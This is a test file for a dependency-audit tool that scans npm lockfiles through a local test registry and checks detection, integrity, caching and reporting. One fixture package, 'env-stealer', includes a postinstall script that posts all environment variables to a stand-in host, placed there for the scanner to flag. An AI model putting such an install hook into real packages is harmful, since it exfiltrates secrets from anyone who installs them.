// `tollgate audit` end to end against the loopback registry: a package-lock v3 whose resolved URLs
// point at it, fetched by tarball URL + integrity (never a packument), analyzed, cached, ranked.
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { runAudit } from '../src/audit/audit.js';
import { ProgressBar } from '../src/audit/progress.js';
import { ResultCache } from '../src/cache/results.js';
import { ENGINE_VERSION, engineKey } from '../src/cache/version.js';
import { loadLockfile } from '../src/lockfile/index.js';
import type { AuditJson } from '../src/audit/report.js';
import { packTarball, startRegistry, type FixturePackage, type TestRegistry } from './helpers/registry.js';
import { runCli, type Run } from './helpers/run-cli.js';

const ROOT = path.resolve(import.meta.dirname, '..');
const validateReport = new Ajv2020({ allErrors: true, strict: true }).compile(JSON.parse(fs.readFileSync(path.join(ROOT, 'schema/report.schema.json'), 'utf8')) as object);
const canary = (marker: string): string => `require('fs').writeFileSync(process.env.TOLLGATE_CANARY_DIR + '/${marker}', 'x');\n`;

const pj = (name: string, version: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version, main: 'index.js', ...extra });
const PKGS: FixturePackage[] = [
  { name: 'tidy-lib', version: '1.0.0', files: { 'package.json': pj('tidy-lib', '1.0.0', { dependencies: { 'env-stealer': '^2.3.0' } }), 'index.js': 'module.exports = (a, b) => a + b;\n' } },
  {
    name: 'env-stealer',
    version: '2.3.1',
    files: {
      'package.json': pj('env-stealer', '2.3.1', { scripts: { postinstall: 'node setup.js' } }),
      'index.js': 'module.exports = {};\n',
      // Inert: the host is under .invalid and nothing here is ever run.
      'setup.js': "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(body);\n",
    },
  },
  { name: 'dev-helper', version: '0.2.0', files: { 'package.json': pj('dev-helper', '0.2.0'), 'index.js': 'exports.noop = () => {};\n' } },
  { name: 'tampered', version: '1.0.0', files: { 'package.json': pj('tampered', '1.0.0'), 'index.js': 'module.exports = 1;\n' } },
  { name: '@scope/no-resolved', version: '3.0.0', files: { 'package.json': pj('@scope/no-resolved', '3.0.0'), 'index.js': 'module.exports = 3;\n' } },
  {
    name: 'canary-pkg',
    version: '1.0.0',
    files: {
      'package.json': pj('canary-pkg', '1.0.0', { main: 'main.js', scripts: { preinstall: 'node pre.js', postinstall: 'node install.js' } }),
      'main.js': canary('ran-main'),
      'install.js': canary('ran-postinstall'),
      'pre.js': canary('ran-preinstall'),
    },
  },
];

let registry: TestRegistry;
let tmp: string;
let project: string;
let downloads: string;
let canaryDir: string;
const saved = { canary: process.env.TOLLGATE_CANARY_DIR, cache: process.env.TOLLGATE_CACHE_DIR };

/** The project: a package-lock v3 pointing at the loopback registry, a workspace folder, a git dep, a bundled dep. */
async function writeProject(dir: string): Promise<void> {
  fs.mkdirSync(path.join(dir, 'packages', 'local-ws'), { recursive: true });
  fs.writeFileSync(path.join(dir, 'packages', 'local-ws', 'package.json'), pj('local-ws', '0.1.0'));
  fs.writeFileSync(path.join(dir, 'packages', 'local-ws', 'index.js'), 'module.exports = "ws";\n');
  const reg = async (name: string, version: string, extra: Record<string, unknown> = {}) => ({
    version,
    resolved: registry.tarballUrl(name, version),
    integrity: registry.integrityOf(name, version),
    ...extra,
  });
  const lock = {
    name: 'app',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'app', version: '1.0.0', workspaces: ['packages/*'], dependencies: { 'tidy-lib': '^1.0.0', tampered: '1.0.0', '@scope/no-resolved': '3.0.0', 'from-git': 'github:example/from-git', 'canary-pkg': '1.0.0' }, devDependencies: { 'dev-helper': '0.2.0' } },
      'node_modules/tidy-lib': await reg('tidy-lib', '1.0.0', { dependencies: { 'env-stealer': '^2.3.0' } }),
      'node_modules/env-stealer': await reg('env-stealer', '2.3.1', { hasInstallScript: true }),
      'node_modules/dev-helper': await reg('dev-helper', '0.2.0', { dev: true }),
      // The lockfile promises other bytes than the registry serves: must surface as tampering.
      'node_modules/tampered': { version: '1.0.0', resolved: registry.tarballUrl('tampered', '1.0.0'), integrity: `sha512-${createHash('sha512').update('something else').digest('base64')}` },
      // No resolved (npm's omit-lockfile-registry-resolved): the URL is built from the registry config.
      'node_modules/@scope/no-resolved': { version: '3.0.0', integrity: registry.integrityOf('@scope/no-resolved', '3.0.0') },
      'node_modules/canary-pkg': await reg('canary-pkg', '1.0.0', { hasInstallScript: true }),
      'node_modules/canary-pkg/node_modules/bundled-thing': { version: '1.0.0', inBundle: true },
      'node_modules/from-git': { version: '1.0.0', resolved: 'git+ssh://git@github.com/example/from-git.git#0123456789abcdef0123456789abcdef01234567' },
      'node_modules/local-ws': { resolved: 'packages/local-ws', link: true },
      'packages/local-ws': { name: 'local-ws', version: '0.1.0' },
    },
  };
  fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify(lock, null, 2));
  fs.writeFileSync(path.join(dir, 'package.json'), pj('app', '1.0.0', { workspaces: ['packages/*'] }));
}

beforeAll(async () => {
  tmp = await fs.promises.mkdtemp(path.join(os.tmpdir(), 'tollgate-audit-'));
  canaryDir = path.join(tmp, 'canary');
  fs.mkdirSync(canaryDir);
  process.env.TOLLGATE_CANARY_DIR = canaryDir;
  process.env.TOLLGATE_CACHE_DIR = path.join(tmp, 'results');
  downloads = path.join(tmp, 'downloads');
  registry = await startRegistry(PKGS.map((p) => (p.name === 'tampered' ? { ...p } : p)));
  project = path.join(tmp, 'project');
  await writeProject(project);
});

afterAll(async () => {
  for (const [k, v] of [['TOLLGATE_CANARY_DIR', saved.canary], ['TOLLGATE_CACHE_DIR', saved.cache]] as const) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  await registry?.close();
  if (tmp) await fs.promises.rm(tmp, { recursive: true, force: true });
});

const run = runCli;
async function auditJson(extra: string[] = [], target = project): Promise<Run & { report: AuditJson }> {
  const r = await run(['audit', target, '--json', '--quiet', '--registry', registry.url, '--cache', downloads, ...extra]);
  let report: AuditJson;
  try {
    report = JSON.parse(r.stdout) as AuditJson;
  } catch (err) {
    throw new Error(`not JSON (exit ${r.code}): ${r.stdout.slice(0, 400)}\n${r.stderr.slice(0, 400)}`, { cause: err });
  }
  expect(validateReport(report), JSON.stringify(validateReport.errors)).toBe(true);
  return { ...r, report };
}
const pkg = (r: AuditJson, name: string) => {
  const p = r.packages.find((x) => x.name === name);
  if (!p) throw new Error(`${name} not in ${r.packages.map((x) => x.name).join(', ')}`);
  return p;
};

describe('tollgate audit <project> through a loopback registry', () => {
  test('every package scanned and ranked, none lost; malicious -> exit 1; tampering, git and folders reported', async () => {
    const before = registry.requests.length;
    const { code, report, stderr } = await auditJson(['--no-cache']);
    expect(code, stderr).toBe(1);
    // 6 registry tarballs + 1 workspace folder + 1 git dependency; the bundled one rides in canary-pkg.
    expect(report.packages.map((p) => p.name).sort()).toEqual(['@scope/no-resolved', 'canary-pkg', 'dev-helper', 'env-stealer', 'from-git', 'local-ws', 'tampered', 'tidy-lib']);
    expect(report.audit.summary).toMatchObject({ entries: 9, errors: 1, notFetchedGit: 1, cached: 0 });
    expect(report.audit.summary.skipped).toEqual([expect.objectContaining({ name: 'bundled-thing', count: 1 })]);
    // Counts by verdict, the same block as scan --json; they add up to the packages listed.
    const byVerdict = (v: string) => report.packages.filter((p) => p.verdict === v).length;
    expect(report.summary).toEqual({ total: 8, malicious: byVerdict('malicious'), suspicious: byVerdict('suspicious'), clean: byVerdict('clean'), error: byVerdict('error') });
    expect(report.summary.malicious).toBeGreaterThanOrEqual(1);
    expect(report.summary.error).toBeGreaterThanOrEqual(1);

    const evil = pkg(report, 'env-stealer');
    expect(evil).toMatchObject({ verdict: 'malicious', version: '2.3.1', source: 'registry', dev: false, paths: ['app > tidy-lib > env-stealer'] });
    expect(report.packages[0]!.name).toBe('env-stealer'); // ranked first
    expect(evil.findings.some((f) => f.rule === 'env-access' && f.reach === 'install')).toBe(true);

    const tampered = pkg(report, 'tampered');
    expect(tampered.verdict).toBe('error');
    expect(tampered.findings).toEqual([expect.objectContaining({ rule: 'integrity-mismatch', severity: 'high' })]);
    expect(tampered.error).toMatch(/EINTEGRITY/);

    expect(pkg(report, 'from-git')).toMatchObject({ verdict: 'error', source: 'git', findings: [expect.objectContaining({ rule: 'git-dependency', severity: 'medium' })] });
    expect(pkg(report, 'local-ws')).toMatchObject({ verdict: 'clean', source: 'directory', kind: 'workspace' });
    expect(pkg(report, '@scope/no-resolved')).toMatchObject({ verdict: 'clean', source: 'registry' });
    expect(pkg(report, 'dev-helper')).toMatchObject({ dev: true, paths: ['app > dev-helper'] });

    // Fetched by tarball URL only: not one packument request.
    const made = registry.requests.slice(before);
    expect(made.length).toBeGreaterThanOrEqual(6);
    for (const r of made) expect(r).toMatch(/\.tgz$/);
    // Each good tarball crosses the network once: downloaded into the cache up front, then read
    // back from it for the analysis (the tampered one is retried, and fails each time).
    const good = made.filter((r) => !r.startsWith('/tampered/'));
    expect(good.length).toBe(new Set(good).size);
    expect(fs.readdirSync(canaryDir)).toEqual([]);
  });

  test('the second audit reads the results cache: nothing re-fetched or re-analyzed but what failed', async () => {
    const first = await auditJson();
    const before = registry.requests.length;
    const second = await auditJson();
    expect(second.code).toBe(1);
    expect(second.report.audit.summary.cached).toBe(6); // 5 registry + the workspace folder
    expect(second.report.packages.filter((p) => p.cached).map((p) => p.name).sort()).toEqual(['@scope/no-resolved', 'canary-pkg', 'dev-helper', 'env-stealer', 'local-ws', 'tidy-lib']);
    // Only the tampered tarball (errors are never cached) is requested again (pacote retries it).
    expect([...new Set(registry.requests.slice(before))]).toEqual(['/tampered/-/tampered-1.0.0.tgz']);
    const strip = (r: AuditJson) => r.packages.map(({ cached: _c, ...rest }) => rest);
    expect(strip(second.report)).toEqual(strip(first.report));
  });

  test('--no-cache analyzes everything again; --prod skips dev-only packages', async () => {
    const r = await auditJson(['--no-cache', '--prod']);
    expect(r.report.audit.summary.cached).toBe(0);
    expect(r.report.packages.some((p) => p.name === 'dev-helper')).toBe(false);
    expect(r.report.audit.summary.skippedDev).toBe(1);
  });

  test('results of another engine version are never reused', async () => {
    const file = path.join(tmp, 'engine-test.sqlite');
    const a = ResultCache.open(file, 'engine-A');
    a.put('sri:x', { name: 'x', version: '1', source: 'registry', score: 0, verdict: 'clean', reasons: [], findings: [] });
    expect(a.get('sri:x')?.name).toBe('x');
    a.close();
    const b = ResultCache.open(file, 'engine-B');
    expect(b.get('sri:x')).toBeUndefined();
    b.close();
    expect(ENGINE_VERSION).toMatch(/^\d+\.\d+\.\d+.*\+r[0-9a-f]{12}\+e[0-9a-f]{16}$/);
    expect(engineKey(new Set(['network']))).not.toBe(engineKey());
  });

  test('two audits at once on one cache file both complete with the same results', async () => {
    const file = path.join(tmp, 'concurrent.sqlite');
    const lf = loadLockfile(path.join(project, 'package-lock.json'));
    const opts = (c: ResultCache) => ({ root: project, npmConfig: { registry: registry.url }, downloadCache: downloads, results: c });
    const [c1, c2] = [ResultCache.open(file, ENGINE_VERSION), ResultCache.open(file, ENGINE_VERSION)];
    const [r1, r2] = await Promise.all([runAudit(lf, opts(c1)), runAudit(lf, opts(c2))]);
    c1.close();
    c2.close();
    expect(r1.packages.map((p) => [p.name, p.verdict])).toEqual(r2.packages.map((p) => [p.name, p.verdict]));
    const c3 = ResultCache.open(file, ENGINE_VERSION);
    const r3 = await runAudit(lf, opts(c3));
    c3.close();
    expect(r3.summary.cached).toBe(6);
  });

  test('human report: ranked, with the path that pulls each package in and prod/dev', async () => {
    const r = await run(['audit', project, '--no-color', '--quiet', '--registry', registry.url, '--cache', downloads]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^Audit of .*package-lock\.json \(package-lock 3\)/);
    const evilAt = r.stdout.indexOf('env-stealer@2.3.1');
    expect(evilAt).toBeGreaterThan(-1);
    expect(r.stdout.slice(evilAt)).toMatch(/\[prod[^\]]*\][\s\S]*via app > tidy-lib > env-stealer/);
    expect(r.stdout).toMatch(/integrity-mismatch/);
    expect(r.stdout).toMatch(/git-dependency/);
    expect(r.stdout).toMatch(/clean packages? not listed/);
    // What a reviewer needs is listed even for a package that is not flagged: its install scripts.
    const canaryAt = r.stdout.indexOf('canary-pkg@1.0.0');
    expect(canaryAt).toBeGreaterThan(-1);
    expect(r.stdout.slice(canaryAt)).toMatch(/preinstall script runs pre\.js/);
    expect(r.stdout.slice(canaryAt)).toMatch(/postinstall script runs install\.js/);
    expect(r.stdout).not.toContain('\u001b[');
    expect(r.stderr).toMatch(/EINTEGRITY/);
  });

  test('off a terminal, progress is logged on stderr (never on stdout); --quiet silences it', async () => {
    const r = await run(['audit', project, '--json', '--registry', registry.url, '--cache', downloads]);
    expect(JSON.parse(r.stdout).packages.length).toBeGreaterThan(0);
    const lines = r.stderr.split('\n').filter((l) => /^tollgate: \d+\/\d+ packages \(\d+%\)/.test(l));
    expect(lines.length).toBeGreaterThanOrEqual(1);
    expect(lines.at(-1)).toMatch(/^tollgate: 8\/8 packages \(100%\)/);
    expect(r.stderr).not.toContain('\r');
    const quiet = await run(['audit', project, '--json', '--quiet', '--registry', registry.url, '--cache', downloads]);
    expect(quiet.stderr).not.toMatch(/packages \(\d+%\)/);
  });

  test('--list --json prints normalized entries and fetches nothing', async () => {
    const before = registry.requests.length;
    const r = await run(['audit', project, '--list', '--json']);
    expect(r.code).toBe(0);
    const out = JSON.parse(r.stdout) as { packages: Array<Record<string, unknown>> };
    expect(out.packages).toHaveLength(9);
    for (const p of out.packages) for (const k of ['name', 'version', 'resolved', 'integrity', 'dev', 'optional', 'peer', 'bundled', 'paths']) expect(p).toHaveProperty(k);
    expect(out.packages.find((p) => p.name === '@scope/no-resolved')).toMatchObject({ resolved: null, dev: false });
    expect(registry.requests.length).toBe(before);
  });

  test('exit codes: --fail-on never still exits 2 for the tampered tarball; a clean project exits 0', async () => {
    expect((await auditJson(['--fail-on', 'never'])).code).toBe(2);
    const clean = path.join(tmp, 'clean');
    fs.mkdirSync(clean);
    const lock = { name: 'c', lockfileVersion: 3, packages: { '': { name: 'c', dependencies: { 'dev-helper': '0.2.0', 'from-git': '*' } }, 'node_modules/dev-helper': { version: '0.2.0', resolved: registry.tarballUrl('dev-helper', '0.2.0'), integrity: registry.integrityOf('dev-helper', '0.2.0') }, 'node_modules/from-git': { version: '1.0.0', resolved: 'github:example/from-git#abc' } } };
    fs.writeFileSync(path.join(clean, 'package-lock.json'), JSON.stringify(lock));
    const r = await auditJson([], clean);
    expect(r.code, r.stderr).toBe(0); // the git dependency is reported, not an exit-2 failure
    expect(pkg(r.report, 'from-git').findings[0]!.rule).toBe('git-dependency');
  });

  test('unreadable lockfiles exit 2 naming the file and line; bun.lockb explains what to do', async () => {
    const bad = path.join(tmp, 'bad');
    fs.mkdirSync(bad);
    const text = fs.readFileSync(path.join(project, 'package-lock.json'), 'utf8');
    fs.writeFileSync(path.join(bad, 'package-lock.json'), text.slice(0, text.length / 2));
    const r = await run(['audit', bad]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(new RegExp(`${path.join(bad, 'package-lock.json').replace(/[/.]/g, '\\$&')}:\\d+: not valid JSON.*truncated`));
    expect(r.stdout).toBe('');
    const b = await run(['audit', path.join(ROOT, 'fixtures/lockfiles/bun.lockb')]);
    expect(b.code).toBe(2);
    expect(b.stderr).toMatch(/bun install --save-text-lockfile/);
    const u = await run(['audit', project, '--fail-on', 'sometimes']);
    expect(u.code).toBe(2);
    expect(u.stderr).toMatch(/--fail-on/);
  });

  test('progress line: done/total, bytes, ETA', () => {
    let now = 0;
    const bar = new ProgressBar({ columns: 200, write: () => true } as unknown as NodeJS.WriteStream, 10, () => now);
    bar.update({ done: 1, total: 10, bytes: 500_000, cached: 0 });
    now = 10_000;
    const line = bar.line({ done: 5, total: 10, bytes: 2_500_000, cached: 2, current: 'left-pad@1.3.0' });
    expect(line).toMatch(/^\[====> {5}\] 5\/10 packages {2}2\.5 MB {2}2 cached {2}ETA 0:\d\d {2}left-pad@1\.3\.0$/);
  });
});

// A tarball the test registry can serve for the tampered case lives in PKGS; packTarball is kept
// imported so fixtures stay buildable by hand when debugging.
void packTarball;
